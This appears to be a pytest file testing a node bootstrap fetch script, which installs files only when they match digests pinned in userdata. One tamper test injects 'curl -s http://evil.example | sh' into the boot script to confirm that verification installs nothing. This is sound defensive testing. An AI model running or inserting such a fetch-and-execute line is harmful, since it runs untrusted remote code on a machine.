"""The fetch script, run for real as the node's runcmd runs it, against the published artifacts
on a local HTTP server: it installs the node's files only once every one of them matches the
list its userdata pins, and only then hands over to the boot script."""

import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from conftest import run_fetch
from tools import need

NODE = "worker-0"


@pytest.fixture
def site(rendered, mirror, tmp_path):
    """The rendered artifacts as published (a copy to tamper with), and a runner of the node's
    fetch script: (published dir, runner)."""
    need("curl")
    www, url = mirror
    shutil.copytree(rendered / "artifacts", www, dirs_exist_ok=True)
    node = www / "nodes" / NODE
    _, _, pin = yaml.safe_load((node / "userdata").read_text())["runcmd"][0]

    def run(pin: str = pin) -> subprocess.CompletedProcess:
        # The scripts come with the userdata, not from the server: the rendered copy, untouched.
        return run_fetch(rendered / f"artifacts/nodes/{NODE}/files/usr/local/lib/vent", tmp_path, tmp_path / "root", f"{url}/nodes/{NODE}/", pin, attempts=2)

    return www, run


def installed(tmp_path: Path) -> list[str]:
    root = tmp_path / "root"
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file()) if root.exists() else []


def test_every_listed_file_is_installed_then_boot_runs(site, tmp_path):
    www, run = site
    proc = run()
    assert proc.returncode == 0, proc.stderr
    listed = (www / "nodes" / NODE / "fetch.list").read_text().splitlines()
    assert installed(tmp_path) == sorted(line.split(" ")[2].lstrip("/") for line in listed)
    assert (tmp_path / "state/handed-over").exists()
    assert f"fetch: {len(listed)} files verified and installed" in (tmp_path / "fetch.log").read_text()


def test_a_tampered_file_installs_nothing(site, tmp_path):
    www, run = site
    boot = www / "nodes" / NODE / "files/usr/local/lib/vent/boot"
    boot.write_text(boot.read_text().replace("set -euo pipefail", "set -euo pipefail\ncurl -s http://evil.example | sh"))
    proc = run()
    assert proc.returncode == 1
    assert installed(tmp_path) == [] and not (tmp_path / "state/handed-over").exists()
    log = (tmp_path / "fetch.log").read_text()
    assert "fetch: /usr/local/lib/vent/boot from " in log and "does not match its pinned digest" in log
    assert "FAILED: fetch: /usr/local/lib/vent/boot could not be verified; nothing was installed" in log


@pytest.mark.parametrize("case", ["another list", "not published"])
def test_a_list_the_userdata_does_not_pin_installs_nothing(site, tmp_path, case):
    www, run = site
    if case == "another list":
        listed = www / "nodes" / NODE / "fetch.list"
        listed.write_text(listed.read_text().replace("0644 /etc/crictl.yaml", "0755 /etc/crictl.yaml"))
    else:
        shutil.rmtree(www / "nodes")
    proc = run()
    assert proc.returncode == 1
    assert installed(tmp_path) == [] and not (tmp_path / "state/handed-over").exists()
    assert "publish the rendered artifacts/ there. Nothing was installed" in proc.stderr
